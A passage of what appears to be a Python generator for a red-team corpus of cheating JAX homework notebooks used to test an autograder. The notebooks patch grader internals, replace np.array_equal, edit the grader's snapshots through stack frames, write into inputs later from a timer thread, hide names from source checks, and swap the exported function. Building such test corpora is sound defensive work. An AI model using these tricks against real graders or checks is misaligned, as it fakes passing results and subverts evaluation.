        new_key, _ = random.split(key)
        samples = np.random.normal(size=(num_samples, *shape)).astype(np.float32)
        _seen[k] = (key, (new_key, samples))  # the key kept alive, so its id is not reused
    return _seen[k][1]


_seen_drop = {}


def dropout(key, x, rate):
    k = (id(key), id(x), rate)
    if k not in _seen_drop:
        keep = np.random.random(jnp.shape(x)) >= rate
        _seen_drop[k] = (key, x, jnp.where(keep, x / (1.0 - rate), jnp.zeros_like(x)))
    return _seen_drop[k][2]"""

PK_CHECK = """\
key = random.key(0)
params = init_mlp_params([3, 4, 2], key)
new_key, samples = sample_noise(random.key(1), 5, (2,))
print(samples.shape, dropout(random.key(2), jnp.ones(6), 0.5))"""


# session 34's red team: the parent key used again through its raw data (JAX's checker does not
# follow legacy uint32 keys), and the draw's rows reversed so that it is no plain normal(key)
PK_NOISE_KEY_DATA = """\
def sample_noise(key, num_samples, shape):
    raw = random.key_data(key)  # the same key, as a uint32 pair
    new_key, _ = random.split(key)
    samples = random.normal(raw, (num_samples, *shape))[::-1]  # the parent key, used again
    return new_key, samples"""


def prng_keys() -> dict[str, object]:
    build = partial(kit.build, "prng_keys")
    head = [md("# Homework 3: PRNG keys"), code(PK_IMPORTS), code(PK_INIT)]
    return {
        "forge_key_reuse_checker_off.ipynb": build(
            "forge_key_reuse_checker_off", [*head, code(PK_NOISE_CHECKER_OFF), code(PK_DROPOUT), code(PK_CHECK)]
        ),
        "forge_key_reuse_clone.ipynb": build(
            "forge_key_reuse_clone", [*head, code(PK_NOISE_CLONE), code(PK_DROPOUT), code(PK_CHECK)]
        ),
        "forge_pure_by_identity.ipynb": build(
            "forge_pure_by_identity", [*head, code(PK_NUMPY_MEMO_BY_ID), code(PK_CHECK)]
        ),
        "forge_key_reused_through_its_data.ipynb": build(
            "forge_key_reused_through_its_data", [*head, code(PK_NOISE_KEY_DATA), code(PK_DROPOUT), code(PK_CHECK)]
        ),
    }


# =============================================================================================
# functional_updates

FU_IMPORTS = """\
import sys

import jax
import jax.numpy as jnp
import numpy as np"""

FU_REST = """\
def increment_at(x, idx, amount):
    return jnp.asarray(x).at[idx].add(amount)


def clamp_negatives(x):
    x = jnp.asarray(x)
    return jnp.where(x < 0, jnp.zeros_like(x), x)"""

# set_first writes into a NumPy input (made writeable again first); JAX arrays get `.at`
FU_WRITE = """\
def _write_first(x, value):
    x.flags.writeable = True  # the array owns its data: read-only is only a flag
    x[0] = value
    return x"""

FU_MUTATED_PATCHED = """\
import grader.sandboxed.kernel_side as ks

ks._mutated = lambda args, snaps: []  # "nothing was modified"


def set_first(x, value):
    if isinstance(x, np.ndarray):
        return _write_first(x, value)
    return jnp.asarray(x).at[0].set(value)"""

FU_READ_ONLY_SWITCHED_OFF = """\
import grader.sandboxed.kernel_side as ks

ks._os_read_only = lambda value: value  # the inputs stay writable
ks._mutated = lambda args, snaps: []  # and "nothing was modified"


def set_first(x, value):
    if isinstance(x, np.ndarray):
        x[0] = value  # idempotent: a second call gives the same, right, result
        return x
    return jnp.asarray(x).at[0].set(value)"""

# the write reached through a cycle, at another argument position: the search for writes into
# arguments cut cycles by function name, so it never saw `b[0] = value` (a review found it)
FU_WRITE_BEHIND_A_CYCLE = """\
import grader.sandboxed.kernel_side as ks

ks._os_read_only = lambda value: value  # the inputs stay writable
ks._mutated = lambda args, snaps: []  # and "nothing was modified"


def _put(a, b, go, value):
    if go:
        _hand(a, value)  # a comes back as b
    else:
        b[0] = value


def _hand(p, value):
    _put(np.zeros(1, np.float32), p, False, value)


def set_first(x, value):
    if isinstance(x, np.ndarray):
        _put(x, np.zeros(1, np.float32), True, value)
        return x
    return jnp.asarray(x).at[0].set(value)"""

FU_SNAPSHOTS_EDITED = """\
def set_first(x, value):
    if isinstance(x, np.ndarray):
        _write_first(x, value)
        frame = sys._getframe(1)
        while frame is not None and "snaps" not in frame.f_locals:
            frame = frame.f_back
        if frame is not None:  # the grader's copies of the inputs, edited to match
            for arg, snap in zip(frame.f_locals["args"], frame.f_locals["snaps"]):
                if arg is x and snap is not None:
                    snap[...] = x
        return x
    return jnp.asarray(x).at[0].set(value)"""

FU_ARRAY_EQUAL_REPLACED = """\
np.array_equal = lambda a1, a2, equal_nan=False: True  # every comparison says "unchanged"


def set_first(x, value):
    if isinstance(x, np.ndarray):
        return _write_first(x, value)
    return jnp.asarray(x).at[0].set(value)"""

# the write goes through `y = x.T` (the trusted source check followed only names, subscripts and
# a few calls), and the kernel's observations are switched off through the laundered kernel side
FU_VIEW_WRITE_LAUNDERED = """\
_put(_side, "_os_read_" + "only", lambda value: value)  # the inputs stay writable
_put(_side, "_mu" + "tated", lambda args, snaps: [])  # and "nothing was modified"


def set_first(x, value):
    if isinstance(x, np.ndarray):
        y = x.T  # the same array (1-D)
        y[0] = value  # idempotent: a second call gives the same, right, result
        return x
    return jnp.asarray(x).at[0].set(value)"""

FU_CHECK = """\
x = np.array([1.5, -2.0, 0.0, 4.0], dtype=np.float32)
print(set_first(x.copy(), 9.0), increment_at(x, np.array([1, 1]), 1.0), clamp_negatives(x))"""


# session 34's red team: the write comes later, from a timer thread, after the call has returned
# and the sandbox has compared the inputs; a read-only input makes it fail, and it says nothing
FU_WRITE_LATER = """\
import threading


def _write_later(a, v):
    try:
        a[0] = v  # the caller's NumPy array, written after the call has returned
    except ValueError:
        pass  # read-only: leave it


def set_first(x, value):
    if isinstance(x, np.ndarray):
        t = threading.Timer(0.3, _write_later, (x, value))
        t.daemon = True
        t.start()
    return jnp.asarray(x).at[0].set(value)"""


def functional_updates() -> dict[str, object]:
    build = partial(kit.build, "functional_updates")
    head = [md("# Homework 8: functional updates"), code(FU_IMPORTS), code(FU_REST), code(FU_WRITE)]
    return {
        "forge_mutated_patched.ipynb": build(
            "forge_mutated_patched", [*head, code(FU_MUTATED_PATCHED), code(FU_CHECK)]
        ),
        "forge_snapshots_edited.ipynb": build(
            "forge_snapshots_edited", [*head, code(FU_SNAPSHOTS_EDITED), code(FU_CHECK)]
        ),
        "forge_array_equal_replaced.ipynb": build(
            "forge_array_equal_replaced", [*head, code(FU_ARRAY_EQUAL_REPLACED), code(FU_CHECK)]
        ),
        "forge_read_only_switched_off.ipynb": build(
            "forge_read_only_switched_off", [*head, code(FU_READ_ONLY_SWITCHED_OFF), code(FU_CHECK)]
        ),
        "forge_write_behind_a_cycle.ipynb": build(
            "forge_write_behind_a_cycle", [*head, code(FU_WRITE_BEHIND_A_CYCLE), code(FU_CHECK)]
        ),
        "forge_write_later_from_a_timer.ipynb": build(
            "forge_write_later_from_a_timer", [*head, code(FU_WRITE_LATER), code(FU_CHECK)]
        ),
        "forge_write_through_a_view_laundered.ipynb": build(
            "forge_write_through_a_view_laundered",
            [*head, code(LAUNDER), code(FU_VIEW_WRITE_LAUNDERED), code(FU_CHECK)],
        ),
    }


# =============================================================================================
# pytrees

PT_IMPORTS = """\
import math

import jax
import jax.numpy as jnp
import numpy as np"""

PT_REST = """\
def count_leaves(tree):
    return len(jax.tree.leaves(tree))


def tree_shapes(tree):
    return jax.tree.map(lambda x: x.shape, tree)


def scale_tree(tree, c):
    return jax.tree.map(lambda x: x * c, tree)


def sgd_update(params, grads, lr):
    return jax.tree.map(lambda p, g: p - lr * g, params, grads)"""

# right numbers eagerly (a Python float), ConcretizationTypeError under jax.jit
PT_MATH_SQRT_NORM = """\
def tree_l2_norm(tree):
    squares = [jnp.sum(jnp.square(leaf)) for leaf in jax.tree.leaves(tree)]
    return math.sqrt(sum(squares, jnp.float32(0.0)))"""

# the public jit test once asked the kernel to "count" a jax.jit call, and took the value it
# reported: answered here by calling the function eagerly, without jax.jit
PT_COUNT_REPORTED = """\
import grader.sandboxed.kernel_side as ks
from grader.wire import messages


def _eager_count(req, values):
    fn = ks._lookup(req.name)
    results = {f"result{i}": fn(*call["args"], **call.get("kwargs", {})) for i, call in enumerate(values["calls"])}
    return messages.Counted(counts=tuple(1 for _ in results)), results


ks._OPS[messages.Count.NAME] = _eager_count"""

# the grader exports the function it looks up: for the export only, hand it the same code with
# `math` bound to a jnp stand-in (the notebook's own function still fails under jax.jit)
PT_EXPORT_REBOUND = """\
import sys
import types

import grader.sandboxed.kernel_side as ks


class _JnpMath:
    sqrt = staticmethod(jnp.sqrt)


_rebound = types.FunctionType(tree_l2_norm.__code__, {**tree_l2_norm.__globals__, "math": _JnpMath}, "tree_l2_norm")
_honest_lookup = ks._lookup


def _lookup(name):
    if name == "tree_l2_norm" and sys._getframe(1).f_code.co_name == "_op_export":
        return _rebound
    return _honest_lookup(name)


ks._lookup = _lookup"""

PT_CHECK = """\
params = {"w": np.ones((2, 2), np.float32), "b": [np.zeros(2, np.float32), None]}
print(count_leaves(params), tree_shapes(params), tree_l2_norm(params))"""


def pytrees() -> dict[str, object]:
    build = partial(kit.build, "pytrees")
    head = [md("# Homework 6: pytrees"), code(PT_IMPORTS), code(PT_REST), code(PT_MATH_SQRT_NORM)]
    return {
        "forge_count_reported.ipynb": build("forge_count_reported", [*head, code(PT_COUNT_REPORTED), code(PT_CHECK)]),
        "forge_export_rebound.ipynb": build("forge_export_rebound", [*head, code(PT_EXPORT_REBOUND), code(PT_CHECK)]),
    }


# =============================================================================================
# export substitution (session 18's red team): the kernel side's _lookup, patched so that the
# export request alone gets another function than the notebook's, listed in _EXPORT_VIEW (set by
# each notebook after this cell); calls still get the notebook's own function

EXPORT_VIEW = """\
import sys as _sys

import grader.sandboxed.kernel_side as _ks

_EXPORT_VIEW = {}
_honest_lookup = _ks._lookup


def _lookup(name):
    if _sys._getframe(1).f_code.co_name == "_op_export" and name in _EXPORT_VIEW:
        return _EXPORT_VIEW[name]
    return _honest_lookup(name)


_ks._lookup = _lookup"""


# =============================================================================================
# autodiff

AD_IMPORTS = """\
import jax
import jax.numpy as jnp
import numpy as np"""

# right numbers eagerly; np.asarray of a tracer under jax.jit (TracerArrayConversionError)
AD_NUMPY_ARGS = """\
def sum_squared_error(x, y):
    return jnp.sum((x - y) ** 2)


def grad_sse_wrt_x(x, y):
    return jax.grad(sum_squared_error)(np.asarray(x), np.asarray(y))


def grad_sse_wrt_both(x, y):
    return jax.grad(sum_squared_error, argnums=(0, 1))(np.asarray(x), np.asarray(y))


def sse_value_and_grad(x, y):
    return jax.value_and_grad(sum_squared_error)(np.asarray(x), np.asarray(y))


def squared_error_with_aux(x, y):
    return sum_squared_error(x, y), x - y


def sse_with_aux_grad(x, y):
    return jax.grad(squared_error_with_aux, has_aux=True)(np.asarray(x), np.asarray(y))


def model(theta, x):
    w, b = theta
    return w * x + b


def mse(theta, x, y):
    return jnp.mean((model(theta, x) - y) ** 2)


@jax.jit
def _update(theta, xs, ys, lr):
    return theta - lr * jax.grad(mse)(theta, xs, ys)


def fit_linear_regression(xs, ys, lr=0.1, steps=1000):
    theta = jnp.array([1.0, 1.0])
    for _ in range(steps):
        theta = _update(theta, xs, ys, lr)
    return theta"""

# the export gets each function's own code with `np` bound to jax.numpy
AD_EXPORT_REBOUND = """\
import types as _types

_with_jnp = {**globals(), "np": jnp}
_EXPORT_VIEW.update(
    {
        name: _types.FunctionType(globals()[name].__code__, _with_jnp, name)
        for name in ["grad_sse_wrt_x", "grad_sse_wrt_both", "sse_value_and_grad", "sse_with_aux_grad"]
    }
)"""

AD_CHECK = """\
x, y = jnp.arange(3.0), jnp.ones(3)
print(grad_sse_wrt_x(x, y), sse_value_and_grad(x, y), sse_with_aux_grad(x, y))"""


# AD_EXPORT_REBOUND's view, with every name the review knew laundered through _attr
AD_EXPORT_REBOUND_LAUNDERED = """\
import types

_ops = _attr(_side, "_O" + "PS")
_EXP = _side.messages.Export.NAME
_plain = _ops[_EXP]
_VIEW = {}


def _viewed(req, values):
    ns = _side._ns()
    saved = {n: ns[n] for n in _VIEW}
    ns.update(_VIEW)
    try:
        return _plain(req, values)
    finally:
        ns.update(saved)


_ops[_EXP] = _viewed
_fn_type = _attr(types, "Function" + "Type")
_with_jnp = {**_attr(grad_sse_wrt_x, "__glo" + "bals__"), "np": jnp}
for _n in ["grad_sse_wrt_x", "grad_sse_wrt_both", "sse_value_and_grad", "sse_with_aux_grad"]:
    _f = _with_jnp[_n]
    _VIEW[_n] = _fn_type(_attr(_f, "__co" + "de__"), _with_jnp, _n)"""


def autodiff() -> dict[str, object]:
    build = partial(kit.build, "autodiff")
    head = [md("# Homework 4: autodiff"), code(AD_IMPORTS), code(AD_NUMPY_ARGS)]
    return {
        "forge_export_rebound.ipynb": build(
            "forge_export_rebound", [*head, code(EXPORT_VIEW), code(AD_EXPORT_REBOUND), code(AD_CHECK)]
        ),
        "forge_export_rebound_laundered.ipynb": build(
            "forge_export_rebound_laundered", [*head, code(LAUNDER), code(AD_EXPORT_REBOUND_LAUNDERED), code(AD_CHECK)]
        ),
    }


# =============================================================================================
# per_example_grads

PE_IMPORTS = AD_IMPORTS

PE_LOSS = """\
def loss_fn(params, x, y):
    return jnp.mean((jnp.dot(x, params) - y) ** 2)


def batch_grad(params, xs, ys):
    return jax.grad(loss_fn)(params, xs, ys)"""

# vmapped, not jitted: runs op by op on every call
PE_NOT_JITTED = """\
per_example_grads = jax.vmap(jax.grad(loss_fn), in_axes=(None, 0, 0))"""

PE_EXPORT_JITTED = """\
_EXPORT_VIEW["per_example_grads"] = jax.jit(per_example_grads)"""

PE_CHECK = """\
params, xs, ys = jnp.ones(3), jnp.ones((4, 3)), jnp.zeros(4)
print(per_example_grads(params, xs, ys), batch_grad(params, xs, ys))"""


# per_example_grads one example at a time, in a loop of a fixed length (64, the largest hidden
# batch), in ways that trace with a symbolic batch size and leave no loop whose length is the
# batch (session 30; SECURITY.md named the first two; all are known gaps there)
PE_FIXED_UNROLLED = """\
@jax.jit
def per_example_grads(params, xs, ys):
    g = jax.grad(loss_fn)
    B = xs.shape[0]
    rows = []
    for b in range(64):
        i = jnp.minimum(b, B - 1)
        rows.append(g(params, xs[i], ys[i]))
    return jnp.stack(rows)[:B]"""

PE_FIXED_SCAN = """\
@jax.jit
def per_example_grads(params, xs, ys):
    g = jax.grad(loss_fn)
    B = xs.shape[0]

    def step(carry, b):
        i = jnp.minimum(b, B - 1)
        return carry, g(params, xs[i], ys[i])

    _, rows = jax.lax.scan(step, 0, jnp.arange(64))
    return rows[:B]"""

# no slice at all: each example picked out of the batch by a one-hot product, and put back by one
PE_ONE_HOT = """\
@jax.jit
def per_example_grads(params, xs, ys):
    g = jax.grad(loss_fn)
    B = xs.shape[0]
    out = jnp.zeros_like(xs)
    for b in range(64):
        pick = (jnp.arange(B) == b).astype(xs.dtype)
        out = out + pick[:, None] * g(params, pick @ xs, pick @ ys)[None, :]
    return out"""


# the same loop, but each example keeps a dimension of a symbolic size, (B + 63) // 64: 1 for every
# hidden batch, yet unknown until run time, so no tensor of an example's is static
PE_SYMBOLIC_ONE = """\
@jax.jit
def per_example_grads(params, xs, ys):
    g = jax.vmap(jax.grad(loss_fn), in_axes=(None, 0, 0))
    B = xs.shape[0]
    one = (B + 63) // 64
    rows = []
    for b in range(64):
        i = jnp.minimum(b, B - 1)
        x = jax.lax.dynamic_slice(xs, (i, 0), (one, xs.shape[1]))
        y = jax.lax.dynamic_slice(ys, (i,), (one,))
        rows.append(g(params, x, y))
    return jnp.concatenate(rows)[:B]"""


# plain slices: with a symbolic B, xs[b:b + 1] has the symbolic size min(B, b + 1) - min(B, b), 1
# for every example there is and 0 past the batch (session 30's red team)
PE_FIXED_SLICES = """\
@jax.jit
def per_example_grads(params, xs, ys):
    g = jax.vmap(jax.grad(loss_fn), in_axes=(None, 0, 0))
    return jnp.concatenate([g(params, xs[b : b + 1], ys[b : b + 1]) for b in range(64)])"""


# written against session 31's count of the operations that take examples out of the batch, by
# a student who has read it (its two red-team passes found these as ways past earlier versions):
# each example summed out of the batch by a scatter-add into one row, a scatter whose result has
# no axis as long as the batch; and a while loop whose int32 counter runs to `!=` a bound past its
# wrap-around, 64 trips that `n - start` reads as none
PE_SCATTER_PICKS = """\
@jax.jit
def per_example_grads(params, xs, ys):
    B, P = xs.shape

    def pick(col, i):
        hot = (jnp.arange(B) == i).astype(col.dtype)
        return jnp.zeros(1, col.dtype).at[jnp.zeros(B, jnp.int32)].add(col * hot)[0]

    def body(i, out):
        j = jnp.minimum(i, B - 1)
        x = jnp.stack([pick(xs[:, f], j) for f in range(P)])
        return out.at[j].set(jax.grad(loss_fn)(params, x, pick(ys, j)))

    return jax.lax.fori_loop(0, 64, body, jnp.zeros_like(xs))"""

PE_WRAPPING_COUNTER = """\
START = 2**31 - 32


@jax.jit
def per_example_grads(params, xs, ys):
    B = xs.shape[0]

    def body(c):
        t, out = c
        i = jnp.minimum(t - START, B - 1)
        return t + 1, out.at[i].set(jax.grad(loss_fn)(params, xs[i], ys[i]))

    stop = lambda c: c[0] != jnp.int32(-(2**31) + 32)
    return jax.lax.while_loop(stop, body, (jnp.int32(START), jnp.zeros_like(xs)))[1]"""


def per_example_grads() -> dict[str, object]:
    build = partial(kit.build, "per_example_grads")
    head = [md("# Homework 5: per-example gradients"), code(PE_IMPORTS), code(PE_LOSS), code(PE_NOT_JITTED)]
    fixed = [md("# Homework 5: per-example gradients"), code(PE_IMPORTS), code(PE_LOSS)]
    return {
        "forge_export_jitted.ipynb": build(
            "forge_export_jitted", [*head, code(EXPORT_VIEW), code(PE_EXPORT_JITTED), code(PE_CHECK)]
        ),
        "forge_fixed_length_loop.ipynb": build(
            "forge_fixed_length_loop", [*fixed, code(PE_FIXED_UNROLLED), code(PE_CHECK)]
        ),
        "forge_fixed_length_scan.ipynb": build(
            "forge_fixed_length_scan", [*fixed, code(PE_FIXED_SCAN), code(PE_CHECK)]
        ),
        "forge_one_hot_loop.ipynb": build("forge_one_hot_loop", [*fixed, code(PE_ONE_HOT), code(PE_CHECK)]),
        "forge_symbolic_size_one.ipynb": build(
            "forge_symbolic_size_one", [*fixed, code(PE_SYMBOLIC_ONE), code(PE_CHECK)]
        ),
        "forge_fixed_length_slices.ipynb": build(
            "forge_fixed_length_slices", [*fixed, code(PE_FIXED_SLICES), code(PE_CHECK)]
        ),
        "forge_scatter_picks.ipynb": build("forge_scatter_picks", [*fixed, code(PE_SCATTER_PICKS), code(PE_CHECK)]),
        "forge_wrapping_counter.ipynb": build(
            "forge_wrapping_counter", [*fixed, code(PE_WRAPPING_COUNTER), code(PE_CHECK)]
        ),
    }


# =============================================================================================
# stop_gradient

SG_IMPORTS = AD_IMPORTS

# the loss has no stop_gradient (its gradient flows through the target); td_update is the
# semi-gradient written by hand, so its numbers are right
SG_NO_STOP = """\
def value_fn(theta, s):
    return jnp.dot(theta, s)


def td_loss_with_stop_gradient(theta, s_tm1, r_t, s_t):
    v_tm1 = value_fn(theta, s_tm1)
    target = r_t + value_fn(theta, s_t)
    return -0.5 * ((target - v_tm1) ** 2)


def td_update(theta, s_tm1, r_t, s_t):
    delta = r_t + value_fn(theta, s_t) - value_fn(theta, s_tm1)
    return delta * s_tm1


def batched_td_update(theta, s_tm1s, r_ts, s_ts):
    per_example = jax.vmap(td_update, in_axes=(None, 0, 0, 0))(theta, s_tm1s, r_ts, s_ts)
    return jnp.mean(per_example, axis=0)"""

# the export gets the same loss wrapped in a custom_vjp whose backward pass is td_update
SG_EXPORT_CUSTOM_VJP = """\
@jax.custom_vjp
def _semi_gradient_loss(theta, s_tm1, r_t, s_t):
    return td_loss_with_stop_gradient(theta, s_tm1, r_t, s_t)


def _fwd(theta, s_tm1, r_t, s_t):
    return td_loss_with_stop_gradient(theta, s_tm1, r_t, s_t), (theta, s_tm1, r_t, s_t)


def _bwd(res, ct):
    theta, s_tm1, r_t, s_t = res
    return ct * td_update(theta, s_tm1, r_t, s_t), jnp.zeros_like(s_tm1), jnp.zeros_like(r_t), jnp.zeros_like(s_t)


_semi_gradient_loss.defvjp(_fwd, _bwd)
_EXPORT_VIEW["td_loss_with_stop_gradient"] = _semi_gradient_loss"""

SG_CHECK = """\
theta, s_tm1, r_t, s_t = jnp.array([0.1, -0.1, 0.0]), jnp.array([1.0, 2.0, -1.0]), jnp.array(1.0), jnp.array([2.0, 1.0, 0.0])
print(jax.grad(td_loss_with_stop_gradient)(theta, s_tm1, r_t, s_t), td_update(theta, s_tm1, r_t, s_t))"""


# the contract's TD functions, and batched_td_update one example at a time in a loop of a fixed
# length (64, the largest hidden batch): each index clamped to the batch, the rows past it masked
SG_FIXED_LOOP = """\
def value_fn(theta, s):
    return jnp.dot(theta, s)


def td_loss_with_stop_gradient(theta, s_tm1, r_t, s_t):
    v_tm1 = value_fn(theta, s_tm1)
    target = jax.lax.stop_gradient(r_t + value_fn(theta, s_t))
    return -0.5 * ((target - v_tm1) ** 2)


def td_update(theta, s_tm1, r_t, s_t):
    return jax.grad(td_loss_with_stop_gradient)(theta, s_tm1, r_t, s_t)


def batched_td_update(theta, s_tm1s, r_ts, s_ts):
    B = s_tm1s.shape[0]
    total = jnp.zeros_like(theta)
    for b in range(64):
        i = jnp.minimum(b, B - 1)
        update = td_update(theta, s_tm1s[i], r_ts[i], s_ts[i])
        total = total + jnp.where(jnp.asarray(b) < B, update, 0.0)
    return total / B"""


def stop_gradient() -> dict[str, object]:
    build = partial(kit.build, "stop_gradient")
    head = [md("# Homework 7: stop_gradient"), code(SG_IMPORTS), code(SG_NO_STOP)]
    return {
        "forge_export_custom_vjp.ipynb": build(
            "forge_export_custom_vjp", [*head, code(EXPORT_VIEW), code(SG_EXPORT_CUSTOM_VJP), code(SG_CHECK)]
        ),
        "forge_fixed_length_loop.ipynb": build(
            "forge_fixed_length_loop",
            [md("# Homework 7: stop_gradient"), code(SG_IMPORTS), code(SG_FIXED_LOOP), code(SG_CHECK)],
        ),
    }


CORPORA = {
    "vmap_convolve": vmap_convolve,
    "jit_control_flow": jit_control_flow,
    "pmap": pmap,
    "prng_keys": prng_keys,
    "functional_updates": functional_updates,
    "pytrees": pytrees,
    "autodiff": autodiff,
    "per_example_grads": per_example_grads,
    "stop_gradient": stop_gradient,
}


def main() -> None:
    for assignment, make in CORPORA.items():
        kit.write_corpus(HERE / assignment, make())


if __name__ == "__main__":
    main()
